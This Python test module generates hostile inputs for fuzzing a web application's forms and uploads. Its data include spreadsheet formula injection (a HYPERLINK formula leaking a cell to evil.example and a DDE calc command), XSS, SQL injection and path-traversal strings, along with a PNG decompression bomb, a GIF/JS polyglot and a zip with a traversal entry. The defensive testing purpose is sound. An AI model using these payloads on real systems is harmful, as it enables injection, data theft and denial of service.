"""Hostile input for the suites of issue 12: Hypothesis strategies per class, hostile files, and the counts the
test run prints at its end (``/conftest.py`` reads ``COUNTS``).

Each class is what a probe sent and what once answered 500 or misled: C0 controls (NUL included), lone
surrogates, extreme and impossible dates, digits that are not ASCII, numbers too large or not numbers at all,
spreadsheet formula prefixes, very long text, decompression bombs and polyglot files.
"""

from __future__ import annotations

import io
import struct
import tempfile
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from hypothesis import strategies as st

# Read by the terminal summary of the root conftest: inputs sent, answers >= 500 (or exceptions) seen.
COUNTS = {"inputs": 0, "5xx": 0}

# -- text -----------------------------------------------------------------------------------------------------

C0 = [chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"] + ["\x7f"]
FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
SEEN_FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "==1",
]
NON_ASCII_DIGITS = ["²", "³", "١", "٢", "٣", "۴", "１", "２", "９", "০", "๓", "𝟙", "⑦", "Ⅻ", "〇"]
EXTREME_DATES = ["0001-01-01", "9999-12-31", "9999-99-99", "2026-02-30", "0000-00-00", "2026-13-01", "-0001-01-01",
                 "99999-01-01", "2026-2-3", "2026-02-29", "20261128", "2026-11-28\x00", "２０２６-１１-２８"]
EXTREME_DATETIMES = ["9999-12-31T23:59:59+14:00", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00",
                     "0001-01-01T00:00:00-14:00", "9999-99-99T00:00:00Z", "2026-02-30T00:00:00Z",
                     "2026-11-28T24:00:00+08:00", "2026-11-28T09:30:00+99:00", "2026-11-28T09:30:00+14:01"]
HUGE_NUMBERS = ["9" * 40, "-" + "9" * 40, "1e309", "-1e309", "1e-400", "-0", "-0.0", "NaN", "nan", "inf", "-inf",
                "Infinity", "2147483648", "9223372036854775808", "-9223372036854775809", "99999.99", "0x10", "1_000",
                "1e5", " 1 ", "1,5", "٣", "１２", "0." + "0" * 400 + "1"]
LONG_LENGTHS = [201, 1001, 2001, 4001, 20_000, 200_000]


def _with_control(text: str) -> st.SearchStrategy[str]:
    return st.builds(lambda c, at: text[:at] + c + text[at:], st.sampled_from(C0), st.integers(0, len(text)))


def control_text() -> st.SearchStrategy[str]:
    """Ordinary text with C0 controls (NUL, VT, ESC, BEL…) inside it, or only controls."""
    return st.one_of(
        _with_control("路灯不亮 lamp out"),
        st.sampled_from(["\x0b\x1b\x01", "\x00", "a\x00b", "\x1b[31mred\x1b[0m", "\x08\x08\x08", "\x7f"]),
        st.text(st.sampled_from(C0 + list("abc中文 ")), min_size=1, max_size=20),
    )


def lone_surrogates() -> st.SearchStrategy[str]:
    """Python strings holding an unpaired surrogate: JSON can carry one ("\\ud800"); forms get the raw bytes."""
    return st.one_of(
        st.sampled_from(["\ud800", "a\udfffb", "\udc80中", "路灯\ud83d"]),
        st.characters(categories=["Cs"]).map(lambda c: f"x{c}y"),
    )


def extreme_dates() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(EXTREME_DATES + EXTREME_DATETIMES),
        st.dates().map(lambda d: f"{d.year:04d}-{d.month:02d}-{d.day:02d}"),
        st.builds(lambda d, sign, h: f"{d.year:04d}-{d.month:02d}-{d.day:02d}T00:00:00{sign}{h:02d}:00",
                  st.dates(), st.sampled_from("+-"), st.sampled_from([0, 13, 14, 23])),
    )


def non_ascii_digits() -> st.SearchStrategy[str]:
    """Digits str.isdigit() accepts and int() may or may not: superscripts, Arabic-Indic, full-width…"""
    return st.one_of(
        st.sampled_from(["20261128000000²", "١٢٣", "１２３", "２０２６１１２８０００００００１", "12³", "৪২"]),
        st.builds(lambda head, d: head + d, st.sampled_from(["", "1", "2026112800000", "7"]),
                  st.sampled_from(NON_ASCII_DIGITS)),
        st.text(st.characters(categories=["Nd", "No"]), min_size=1, max_size=16),
    )


def huge_numbers() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(HUGE_NUMBERS),
        st.integers(min_value=10**18, max_value=10**45).map(str),
        st.integers(min_value=-(10**45), max_value=-(10**18)).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
    )


def formula_text() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(SEEN_FORMULAS),
        st.builds(lambda p, rest: p + rest, st.sampled_from(FORMULA_PREFIXES),
                  st.sampled_from(["1+1", "SUM(A1:A2)", 'HYPERLINK("http://evil.example")', "cmd|'/C calc'!A0"])),
    )


def long_text() -> st.SearchStrategy[str]:
    return st.builds(lambda n, ch: ch * n, st.sampled_from(LONG_LENGTHS), st.sampled_from(["a", "中", "9", " "]))


def misc_text() -> st.SearchStrategy[str]:
    """Neither of the above but still hostile: markup, SQL-ish, path tricks, URLs with other schemes, blanks."""
    return st.sampled_from([
        "", " ", "\u200b", "\ufeff", "\u202e", "<script>alert(1)</script>", "'; DROP TABLE cases_case; --",
        "../../etc/passwd", "javascript:alert(1)", "https://evil.example/", "//evil.example/", "/\\evil.example",
        "%00", "null", "None", "[]", "{}", "true", "0", "-1", "1.5", "0" * 20,
    ])


def hostile_text() -> st.SearchStrategy[str]:
    """Every class: what any free-text, choice, id or number field is sent."""
    return st.one_of(control_text(), lone_surrogates(), extreme_dates(), non_ascii_digits(), huge_numbers(),
                     formula_text(), long_text(), misc_text())


def hostile_for(kind: str) -> st.SearchStrategy[str]:
    """Every class for every field, weighted towards the classes that matter for its kind."""
    weighted = {
        "date": [extreme_dates(), extreme_dates()],
        "number": [huge_numbers(), huge_numbers(), non_ascii_digits()],
        "id": [huge_numbers(), non_ascii_digits()],
        "text": [control_text(), formula_text(), long_text()],
    }.get(kind, [])
    return st.one_of(*weighted, hostile_text())


# -- files ------------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class HostileFile:
    label: str
    name: str
    content: bytes
    content_type: str = "application/octet-stream"

    def __repr__(self) -> str:  # the bytes would fill the report
        return f"HostileFile({self.label!r}, name={self.name[:60]!r}, {len(self.content)} bytes)"


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def blank_png(width: int, height: int) -> bytes:
    """A grey PNG of any size without holding its pixels: rows of zeros, compressed as they are made."""
    head = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    squeeze, row, parts = zlib.compressobj(9), b"\x00" * (width + 1), []
    for _ in range(height):
        parts.append(squeeze.compress(row))
    parts.append(squeeze.flush())
    return head + _png_chunk(b"IDAT", b"".join(parts)) + _png_chunk(b"IEND", b"")


@cache
def bomb_png() -> bytes:
    """20000×20000 (400 megapixels) in ~390 KB. Made once per machine into the temporary folder (a few seconds)."""
    path = Path(tempfile.gettempdir()) / "wenming-hostile-bomb-20000.png"
    if path.exists() and path.stat().st_size > 100_000:
        return path.read_bytes()
    data = blank_png(20_000, 20_000)
    partial = path.with_suffix(f".{id(data)}.part")
    partial.write_bytes(data)
    partial.replace(path)  # atomic: parallel sessions never read half a file
    return data


@cache
def small_png() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (32, 24), (200, 30, 30)).save(out, format="PNG")
    return out.getvalue()


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.js", "alert(document.domain)")
        archive.writestr("../../escape.txt", "path traversal inside an archive")
    return out.getvalue()


@cache
def hostile_files() -> tuple[HostileFile, ...]:
    png = small_png()
    return (
        HostileFile("bomb 20000x20000 PNG", "bomb.png", bomb_png(), "image/png"),
        HostileFile("49-megapixel PNG", "big.png", blank_png(7_000, 7_000), "image/png"),
        HostileFile("GIF/JS polyglot", "poly.gif",
                    b"GIF89a/*\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"
                    b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;*/=1;alert(document.domain);//", "image/gif"),
        HostileFile("PDF with HTML", "doc.pdf",
                    b"%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n%%EOF\n",
                    "application/pdf"),
        HostileFile("HTML named .jpg", "photo.jpg", b"<html><script>alert(1)</script></html>", "image/jpeg"),
        HostileFile("PNG with a zip after it", "zipped.png", png + _zip(), "image/png"),
        HostileFile("SVG with script", "x.svg",
                    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
                    "image/svg+xml"),
        HostileFile("truncated PNG", "cut.png", png[: len(png) // 2], "image/png"),
        HostileFile("empty file", "empty.png", b"", "image/png"),
        HostileFile("name with controls and a path", "../../\x1b[31m\x00evil\x0b.png", png, "image/png"),
        HostileFile("300-character name", "中" * 300 + ".png", png, "image/png"),
        HostileFile("formula name", '=HYPERLINK("http://evil.example").png', png, "image/png"),
    )


def hostile_file() -> st.SearchStrategy[HostileFile]:
    return st.sampled_from(hostile_files())


@cache
def file_cases() -> tuple[tuple[HostileFile, ...], ...]:
    """Each hostile file alone, then more files than any form should take (4, and 40)."""
    ordinary = HostileFile("ordinary PNG", "ok.png", small_png(), "image/png")
    return (*((f,) for f in hostile_files()), (ordinary,) * 4, (ordinary,) * 40)


def describe(files) -> str:
    labels = [f.label for f in files]
    return f"{len(labels)} × {labels[0]}" if len(set(labels)) == 1 and len(labels) > 1 else ", ".join(labels)
